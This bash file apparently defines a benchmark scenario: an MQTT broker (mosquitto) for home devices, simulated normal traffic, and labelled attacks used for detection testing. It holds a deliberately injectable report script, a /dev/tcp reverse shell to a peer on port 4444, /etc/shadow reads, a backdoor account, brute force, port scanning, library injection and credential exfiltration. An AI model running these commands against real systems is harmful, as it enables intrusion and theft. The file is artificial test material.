# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# mosquitto as the broker of a house's devices: passwords, an access list, certificates of devices, TLS, WebSockets for
# pages, messages that are kept on a volume, a bridge to the broker of a partner.
#
# A report of the clients passes their names through a shell: a client that names itself can run commands, when an
# administrator has the report made.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
# shellcheck source=bench/dataset/databases.bash
. "${here:?}/databases.bash"

set=test containers=(mosquitto) port=1883 data_directory=/var/lib/mosquitto
configuration_file=/etc/mosquitto/conf.d/house.conf
# shellcheck disable=SC2016 # a topic
health=(/usr/bin/mosquitto_sub -h 127.0.0.1 -u admin -P dragon4 -t '$SYS/broker/uptime' -C 1 -W 5)
image_packages=(mosquitto mosquitto-clients logrotate bash coreutils findutils grep sed gzip dash base-files libc-bin
	netbase tzdata hostname procps)
rare_own=(new_user certificate access_list partner_gone many_clients large_message slow_subscriber will_sent
	tree_dumped broken_configuration new_listener debug_log retained_cleared revoked)
# It is one process.
rare_not=(worker_killed)

image_prepare() {
	local tree=$1 i
	echo mosquitto:x:105:105::/var/lib/mosquitto:/usr/sbin/nologin >>"$tree/etc/passwd"
	echo mosquitto:x:105: >>"$tree/etc/group"
	mkdir -p "$tree"/etc/mosquitto/{certs,ca_certificates,conf.d} "$tree"/var/{lib,log}/mosquitto \
		"$tree"/run/mosquitto "$tree"/usr/local/sbin "$tree"/mnt
	cp "$here/services/mosquitto/mosquitto.conf" "$here/services/mosquitto/acl" "$tree/etc/mosquitto/"
	cp "$here/services/mosquitto/house.conf" "$tree/etc/mosquitto/conf.d/"
	cp "$here/services/mosquitto/logrotate" "$tree/etc/logrotate.d/mosquitto"
	cp "$here/services/mosquitto/clients-report" "$tree/usr/local/sbin/"
	chmod 755 "$tree/usr/local/sbin/clients-report"
	chmod 644 "$tree/etc/logrotate.d/mosquitto"
	certificates "$tree/etc/mosquitto" "$tree/usr/share/devices"
	for i in admin:dragon4 app:secret bridge:bridge installer:12345 meter:meter device{1..20}:letmein; do
		echo "$i"
	done >"$tree/etc/mosquitto/passwd"
	chroot "$tree" /usr/bin/mosquitto_passwd -U /etc/mosquitto/passwd
	chown -R 105:105 "$tree"/etc/mosquitto/{passwd,acl,certs} "$tree"/var/{lib,log}/mosquitto "$tree"/run/mosquitto
	chmod 600 "$tree"/etc/mosquitto/{passwd,acl}
}

# certificates DIR DEVICES: an authority, the server's certificate, and those of devices.
certificates() {
	local dir=$1 devices=$2 name
	mkdir -p "$devices"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=authority.example \
		-keyout "$devices/ca.key" -out "$dir/ca_certificates/ca.crt" 2>/dev/null
	for name in server device1 device2 device3; do
		openssl req -newkey rsa:2048 -nodes -subj "/CN=$name" -keyout "$devices/$name.key" \
			-out "$devices/$name.csr" 2>/dev/null
		openssl x509 -req -in "$devices/$name.csr" -CA "$dir/ca_certificates/ca.crt" -CAkey "$devices/ca.key" \
			-CAcreateserial -CAserial "$devices/serial" -days 3650 -out "$devices/$name.crt" 2>/dev/null
	done
	mv "$devices"/server.{key,crt} "$dir/certs/"
	chmod 600 "$dir/certs/server.key"
}

container_fields() {
	arguments=(/usr/sbin/mosquitto -c /etc/mosquitto/mosquitto.conf)
	tmpfs=(/tmp)
	volumes=(/var/lib/mosquitto /var/log/mosquitto)
}

# ---- programs outside ----

# The partner's broker; a panel that shows what happens, and comes again when the connection was lost; a meter.
peers() {
	outside_begin
	cp "$here/services/mosquitto/partner.conf" "$stage/outside/"
	partner_start
	outside_start panel bash -c "while sleep 2; do
		mosquitto_sub -h $own_address -u app -P secret -i panel -c -q 1 -t 'house/+/+' -t 'order/#'; done"
	outside_start meter bash -c "while sleep 1; do
		n=0; while sleep 3; do echo \$((n++)) kWh; done |
			mosquitto_pub -h $own_address -u meter -P meter -t house/meter/power -q 1 -l; done"
}

partner_start() {
	outside_start partner mosquitto -c /mnt/partner.conf
}

# way: words of a client that say where the broker is: by plain text or by TLS.
way() {
	if [ -n "${same_way:-}" ]; then
		echo "$same_way"
	elif chance 70; then
		echo "-h $own_address -p $port"
	else
		echo "-h $own_address -p 8883 --cafile /etc/mosquitto/ca_certificates/ca.crt --insecure"
	fi
}

# publish USER PASSWORD OPTION…: with the caller's standard input.
publish() {
	# shellcheck disable=SC2046 # words
	outside mosquitto_pub $(way) -u "$1" -P "$2" "${@:3}"
}

# subscribe USER PASSWORD OPTION…
subscribe() {
	# shellcheck disable=SC2046 # words
	outside mosquitto_sub $(way) -u "$1" -P "$2" "${@:3}" </dev/null
}

# At the partner's broker.
partner() {
	local program=$1
	shift
	outside "$program" -h "$peer_address" -p 1884 "$@" </dev/null
}

ready() {
	# shellcheck disable=SC2016 # a topic
	subscribe admin dragon4 -t '$SYS/broker/version' -C 1 -W 5 &&
		subscribe admin dragon4 -t '$SYS/broker/connection/+/state' -C 1 -W 5
}

# ---- ordinary work ----

request() {
	local n
	n=$(between 1 20)
	case $((RANDOM % 18)) in
	0 | 1 | 2) publish "device$n" letmein -t "house/device$n/temperature" -m "$(between 10 30).$n" \
		-q "$(between 0 2)" </dev/null ;;
	3) readings "$n" | publish "device$n" letmein -t "house/device$n/readings" -l -q 1 ;;
	4) publish "device$n" letmein -i "device$n" -t "house/by-client/device$n/state" -r -m "$(pick on off sleeping)" \
		--will-topic "house/device$n/gone" --will-payload gone </dev/null ;;
	5) subscribe app secret -t 'house/+/temperature' -t 'house/by-client/#' -W "$(between 1 3)" -v ;;
	6) kept_messages "$n" ;;
	7) picture_sent "$n" ;;
	8) publish app secret -t "report/day$n" -m "sum $(between 1 1000)" -q 1 </dev/null ;;
	9) partner mosquitto_pub -t "order/new/$n" -m "{\"item\": $n, \"pieces\": $(between 1 9)}" -q 1 ;;
	10) alarm_work "$n" ;;
	11) outside mosquitto_rr -h "$own_address" -u app -P secret -V 5 -t "house/ask/$n" -e "house/answer/$n" \
		-m question -W 1 </dev/null ;;
	12) certified "$((n % 3 + 1))" ;;
	13) client_stdin python3 - "$own_address" app secret "house/page$n" "$n" \
		<"$here/services/mosquitto/browser.py" ;;
	14) publish "device$n" wrong -t x -m x </dev/null ;;
	15) publish "device$n" letmein -V 5 -t "house/device$((n % 20 + 1))/secret" -m "not allowed" -q 1 </dev/null ;;
	16) several_devices "$((n % 6 + 3))" ;;
	17) figures_read ;;
	esac >/dev/null
}

# shellcheck disable=SC2016 # a topic
figures_read() {
	subscribe admin dragon4 -t '$SYS/#' -W 1 -F '%t %p'
}

# readings N: lines, with pauses.
readings() {
	local i
	for ((i = 0; i < $1 * 3; i++)); do
		printf '{"sensor": %d, "value": %d, "note": "%*d"}\n' "$i" "$RANDOM" $((RANDOM % 200 + 1)) "$i"
		[ $((RANDOM % 10)) != 0 ] || sleep 0.$((RANDOM % 9))
	done
}

# A client that was away gets what was kept for it, some of them for the first time.
kept_messages() {
	subscribe app secret -i "tablet$(($1 % 5))" -c -q 1 -t "house/device$1/#" -W 1
	seq "$1" | publish "device$1" letmein -t "house/device$1/log" -l -q 1
	subscribe app secret -i "tablet$(($1 % 5))" -c -q "$(pick 1 2)" -t "house/device$1/#" -W 1
}

picture_sent() {
	head -c "$(between 1000 120000)" /dev/urandom |
		publish "device$1" letmein -t "house/device$1/picture$(pick 1 2)" -s -q "$(pick 0 1)" "$(pick -r -d)"
}

# Alarms go both ways.
alarm_work() {
	publish app secret -t "alarm/floor$1" -m smoke -q 2 </dev/null
	partner mosquitto_pub -t "building/alarm/door$1" -m open -q 2
	partner mosquitto_sub -t 'building/alarm/#' -W 1
}

certified() {
	outside mosquitto_pub -h "$own_address" -p 8884 --cafile /etc/mosquitto/ca_certificates/ca.crt --insecure \
		--cert "/usr/share/devices/device$1.crt" --key "/usr/share/devices/device$1.key" \
		-t "house/device$1/certified" -m "$(between 1 99)" -q 1 </dev/null
}

several_devices() {
	local i pids=() same_way
	same_way=$(way)
	for ((i = 1; i <= $1; i++)); do
		generated_readings "$i" | publish "device$i" letmein -t "house/device$i/readings" -l -q $((i % 3)) &
		pids+=($!)
		subscribe "device$i" letmein -t "house/device$i/#" -W 2 -C 20 &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

generated_readings() {
	seq -f "$1 %g" $((RANDOM % 30 + 5))
}

# ---- administrators' work ----

reload_service() {
	container_signal mosquitto HUP
}

# The log is rotated, the messages are saved and backed up, a device gets a new password, a report is made.
administer() {
	session mosquitto /usr/sbin/logrotate -f /etc/logrotate.d/mosquitto
	session mosquitto /usr/local/sbin/clients-report
	container_signal mosquitto USR1
	sleep 0.5
	# shellcheck disable=SC2016 # the container's shell
	session mosquitto /bin/sh -c 'mkdir -p /var/backups/mosquitto && gzip -c /var/lib/mosquitto/mosquitto.db \
		>"/var/backups/mosquitto/$(date +%s).db.gz" && cp -p /etc/mosquitto/passwd /etc/mosquitto/acl /var/backups/mosquitto/'
	session mosquitto /usr/bin/mosquitto_passwd -b /etc/mosquitto/passwd "device$(between 15 20)" letmein
	reload_service
}

# ---- rare events ----

rare_new_user() {
	keep_file mosquitto /etc/mosquitto/passwd
	undo reload_service
	session mosquitto /usr/bin/mosquitto_passwd -b /etc/mosquitto/passwd fridge cold
	reload_service
	sleep 1
	publish fridge cold -t house/fridge/state -m full -q 1 </dev/null
}

rare_certificate() {
	local certs
	lasts
	certs=$(image_path mosquitto /etc/mosquitto/certs)
	cp -p "$certs/server.crt" "$certs/server.crt.new"
	mv "$certs/server.crt.new" "$certs/server.crt"
	reload_service
	sleep 1
	certified 1
}

rare_access_list() {
	keep_file mosquitto /etc/mosquitto/acl
	undo reload_service
	printf '\nuser device4\ntopic read house/meter/#\n' >>"$(image_path mosquitto /etc/mosquitto/acl)"
	reload_service
	sleep 1
	subscribe device4 letmein -t 'house/meter/#' -W 5 -C 1
}

rare_partner_gone() {
	peer_stop partner
	publish app secret -t report/lost -m lost -q 1 </dev/null
	sleep 10
	partner_start
}

rare_many_clients() {
	local i pids=() same_way
	same_way=$(way)
	for i in {1..60}; do
		subscribe app secret -t 'house/#' -W 5 >/dev/null &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

# One that is taken, and one that is not.
rare_large_message() {
	head -c 390000 /dev/urandom | publish device1 letmein -t house/device1/film -s -q 1
	head -c 900000 /dev/urandom | publish device1 letmein -t house/device1/film -s -q 1
}

# A subscriber that stops reading; more is queued than may be.
rare_slow_subscriber() {
	subscribe app secret -i slow -c -q 1 -t 'house/#' -W 1 >/dev/null
	seq 400 | publish device1 letmein -t house/device1/flood -l -q 1
	subscribe app secret -i slow -c -q 1 -t 'house/#' -W 2 | tail -n 1
}

# A device is lost; its will is told.
rare_will_sent() {
	subscribe app secret -t house/device2/gone -W 12 -C 1 &
	outside timeout -s KILL 3 mosquitto_sub -h "$own_address" -u device2 -P letmein -k 5 -t house/device2/x \
		--will-topic house/device2/gone --will-payload lost </dev/null || true
	wait $! || true
}

rare_tree_dumped() {
	container_signal mosquitto USR2
	sleep 1
}

# It goes on with the configuration that it has.
rare_broken_configuration() {
	local file
	file=$(image_path mosquitto /etc/mosquitto/conf.d/broken.conf)
	echo 'max_queued_messages many' >"$file"
	reload_service
	sleep 2
	rm "$file"
	reload_service
}

# Listeners are made at the start only; the rest of the file is read.
rare_new_listener() {
	local file
	file=$(image_path mosquitto /etc/mosquitto/conf.d/new.conf)
	printf 'max_inflight_messages 5\nmax_keepalive 600\n' >"$file"
	reload_service
	sleep 3
	rm "$file"
	reload_service
}

rare_debug_log() {
	local file
	file=$(image_path mosquitto /etc/mosquitto/conf.d/debug.conf)
	printf 'log_type all\n' >"$file"
	reload_service
	sleep 5
	rm "$file"
	reload_service
}

rare_retained_cleared() {
	subscribe admin dragon4 -t '#' --remove-retained --retained-only -W 2
	container_signal mosquitto USR1
}

# A user goes, while it is connected.
rare_revoked() {
	subscribe device14 letmein -t 'house/device14/#' -W 6 &
	sleep 1
	session mosquitto /usr/bin/mosquitto_passwd -D /etc/mosquitto/passwd device14
	reload_service
	wait $! || true
	session mosquitto /usr/bin/mosquitto_passwd -b /etc/mosquitto/passwd device14 letmein
	reload_service
}

# ---- attacks ----

# client_named COMMANDS: a client whose name is a command, and then the report, which root has made.
client_named() {
	outside mosquitto_pub -h "$own_address" -u device1 -P letmein -i "\$($1)" -t house/device1/x -m x -q 1 </dev/null
	session mosquitto /usr/local/sbin/clients-report
}

attack_client_name() {
	harm exec /usr/bin/id
	harm read /etc/shadow
	harm write /tmp/out
	client_named 'id >/tmp/out; cat /etc/shadow >>/tmp/out'
	session mosquitto /bin/grep -c uid=0 /tmp/out
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	harm read /etc/mosquitto/passwd
	thief_shell 'id; cat /etc/mosquitto/passwd; exit'
	client_named "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1 &'"
	thief_got uid=0
}

# A user of the attacker's, who may read and write everything.
attack_persistence() {
	harm write /etc/mosquitto/passwd
	harm write /etc/mosquitto/acl
	client_named 'mosquitto_passwd -b /etc/mosquitto/passwd ghost open; echo user ghost >>/etc/mosquitto/acl; '\
'echo topic readwrite \# >>/etc/mosquitto/acl; pkill -HUP -x mosquitto'
	sleep 1
	# shellcheck disable=SC2016 # a topic
	subscribe ghost open -t '$SYS/broker/uptime' -t 'house/#' -C 1 -W 10
}

attack_brute_force() {
	local word
	harm call accept
	for word in {monkey,dragon}{1..9}; do
		# shellcheck disable=SC2016 # a topic
		! subscribe admin "$word" -t '$SYS/broker/version' -C 1 -W 3 | grep -c mosquitto || return 0
	done
	return 1
}

# server_shell COMMANDS: code inside the broker, as after an overflow, starts a shell.
server_shell() {
	inject mosquitto /usr/sbin/mosquitto "print (int) system(\"${1//$'\n'/ }\")"
}

attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm write /tmp/out
	server_shell 'id >/tmp/out; cat /etc/passwd >>/tmp/out'
	session mosquitto /bin/grep -c uid=105 /tmp/out
}

# Code inside the broker sends the passwords away; no program is started.
attack_code_connect() {
	harm read /etc/mosquitto/passwd
	harm connect "$peer_address:4444"
	thief_begin
	code_steal mosquitto /usr/sbin/mosquitto /etc/mosquitto/passwd
	thief_got '^admin:'
}

# A library of the attacker's, which the broker maps.
attack_library() {
	harm mapx /tmp/libauth.so
	harm read /etc/mosquitto/certs/server.key
	harm connect "$peer_address:4444"
	thief_begin
	preload_library "$(image_path mosquitto /tmp/libauth.so)" /etc/mosquitto/certs/server.key
	inject mosquitto /usr/sbin/mosquitto 'print ((void *(*)(const char *, int)) dlopen)("/tmp/libauth.so", 2)'
	thief_got 'PRIVATE KEY'
}

attack_miner() {
	mining_begin /var/tmp/.mqtt
	server_shell "$mining_command"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	server_shell "bash -c 'for p in 21 22 25 53 80 443 1883 1884 3306 5432 6379 8883; do
		(exec 3<>/dev/tcp/$peer_address/\$p) && echo open \$p; done >/tmp/ports 2>/dev/null'"
	session mosquitto /bin/grep -c 'open 1884' /tmp/ports
}

# Ways out of the container, each tried by code inside the broker.
attack_escape() {
	code_escapes "${container_pid[mosquitto]}"
}

# The engine's socket in the wrong hands.
attack_stolen_engine() {
	harm read /etc/shadow
	harm read /etc/mosquitto/certs/server.key
	harm read /var/lib/mosquitto/mosquitto.db
	session mosquitto /bin/sh -c 'cat /etc/shadow /etc/mosquitto/certs/server.key; kill -USR1 1; sleep 1;
		gzip -c /var/lib/mosquitto/mosquitto.db | wc -c' | grep -c 'PRIVATE KEY'
}

# ---- adaptive: by messages, files and peers of every day ----

# A forgotten account hears everything, and gets all that is retained.
adaptive_eavesdropping() {
	harm call write
	subscribe installer 12345 -t '#' -v -W 6 >"$stage/heard" &
	sleep 1
	seq 60 | publish device5 letmein -t house/device5/readings -l -q 1
	publish app secret -t alarm/floor1 -m smoke -q 1 </dev/null
	wait $! || true
	[ "$(wc -l <"$stage/heard")" -ge 60 ]
}

# What devices say goes to the partner, as reports, over the broker's own bridge.
adaptive_bridge_exfiltration() {
	harm call write
	partner mosquitto_sub -t 'report/#' -W 8 >"$stage/heard" &
	sleep 1
	{
		subscribe app secret -t 'house/#' -v -W 2
		seq -f 'secret plan %g' 200
	} | publish app secret -t report/copy -l -q 1
	wait $! || true
	grep -c 'secret plan 200' "$stage/heard"
}

# Every retained state becomes another, and the broker saves it.
adaptive_states_forged() {
	local i
	harm write '/var/lib/mosquitto/mosquitto.db.new'
	for i in {1..20}; do
		outside mosquitto_pub -h "$own_address" -u admin -P dragon4 -t "house/by-client/device$i/state" -r \
			-m forged </dev/null
	done
	sleep 16 # until it saves by itself
	subscribe app secret -t 'house/by-client/#' -C 20 -W 5 | grep -c forged | grep -x 20
}

# Messages for clients that are away fill memory and disk.
adaptive_flood() {
	local i
	harm call write
	for i in 1 2 3 4 5 6; do
		subscribe app secret -i "sink$i" -c -q 1 -t 'house/device1/#' -E
		seq -f "%0200g" 600 | publish device1 letmein -t house/device1/log -l -q 1
	done
	subscribe app secret -i sink1 -c -q 1 -t 'house/device1/#' -C 100 -W 10 | tail -n 1
}
